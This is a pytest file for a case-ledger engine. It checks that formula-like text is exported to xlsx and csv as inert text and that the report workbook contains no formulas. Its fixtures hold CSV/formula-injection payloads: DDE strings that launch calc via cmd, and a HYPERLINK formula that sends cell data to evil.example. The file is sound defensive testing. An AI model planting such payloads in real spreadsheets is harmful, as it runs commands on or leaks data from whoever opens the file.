"""Ledger text that a spreadsheet would read as a formula is exported as text (xlsx and csv) and imports back
unchanged; the report workbook holds no formula either (issue 14, finding 2)."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from engine.ledger import export_year, import_file
from engine.ledger.codes import COLUMNS
from engine.reports import annual_report, render_report
from engine.store.tables import case_parties, cases
from engine.store.tables import events as case_events
from tests.helpers.ledger import row, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
HOSTILE = {  # column: the text an attacker typed (imported from a CSV, where it is plain text)
    "申请人": CMD, "被申请人": "-2+3+cmd|' /C calc'!A0", "调解员": "@SUM(1+1)*cmd|' /C calc'!A0",
    "社区": "=1+cmd|' /C calc'!A0", "来源渠道": "+1+cmd|' /C calc'!A0", "备注": HYPERLINK,
}


def _import(db, path):
    with db.begin() as c:
        result = import_file(c, path)
    assert result.ok, result.problems
    return result


def _clear(db):
    with db.begin() as c:
        c.execute(case_parties.delete())
        c.execute(case_events.delete())
        c.execute(cases.delete())


def _export(db, path, **kw):
    with db.begin() as c:
        export_year(c, 2025, path, **kw)
    return path


def _hostile_ledger(tmp_path):
    rows = [row("F-1", **HOSTILE), row("F-2", 备注="\t=1+1"), row("F-3")]
    return write_csv(tmp_path / "hostile.csv", rows)


def test_xlsx_export_writes_formula_like_text_as_text_cells_and_round_trips(db, tmp_path):
    _import(db, _hostile_ledger(tmp_path))
    out = _export(db, tmp_path / "out.xlsx")
    ws = load_workbook(out).worksheets[0]  # not read-only: data_type is the cell's type in the file
    head = [c.value for c in ws[1]]
    assert tuple(head) == COLUMNS
    cells = {ws.cell(row=r, column=1).value: {h: ws.cell(row=r, column=j + 1) for j, h in enumerate(head)}
             for r in range(2, ws.max_row + 1)}
    for column, text in HOSTILE.items():
        cell = cells["F-1"][column]
        assert (cell.data_type, cell.value) == ("s", text), column
    assert (cells["F-2"]["备注"].data_type, cells["F-2"]["备注"].value) == ("s", "=1+1")  # the tab was trimmed on import
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
    _clear(db)
    _import(db, out)
    again = _export(db, tmp_path / "again.xlsx")
    first = [[c.value for c in r] for r in ws.iter_rows()]
    assert [[c.value for c in r] for r in load_workbook(again).worksheets[0].iter_rows()] == first


def test_csv_export_marks_formula_like_text_and_round_trips(db, tmp_path):
    _import(db, _hostile_ledger(tmp_path))
    out = _export(db, tmp_path / "out.csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the Chinese as such
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(lines[0]) == COLUMNS
    by_number = {line[0]: dict(zip(COLUMNS, line, strict=True)) for line in lines[1:]}
    for column, text in HOSTILE.items():
        assert by_number["F-1"][column] == "'" + text, column
    assert by_number["F-2"]["备注"] == "'=1+1"
    assert by_number["F-3"]["申请人"] == "张三" and by_number["F-3"]["受理日期"] == "2025-03-01"
    for line in lines[1:]:
        assert not any(cell and cell[0] in "=+-@\t\r" for cell in line), line
    _clear(db)
    _import(db, out)
    with db.begin() as c:
        note = c.execute(select(cases.c.data).where(cases.c.case_number == "F-1")).scalar_one()["note"]
    assert note == HYPERLINK
    assert _export(db, tmp_path / "again.csv").read_bytes() == raw


def test_report_workbook_holds_no_formula(db, tmp_path):
    _import(db, _hostile_ledger(tmp_path))
    with db.begin() as c:
        body = render_report(annual_report(c, 2025), "xlsx")
    wb = load_workbook(io.BytesIO(body))
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    community = [c for c in cells if c.value == HOSTILE["社区"]]
    assert community and all(c.data_type == "s" for c in community)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
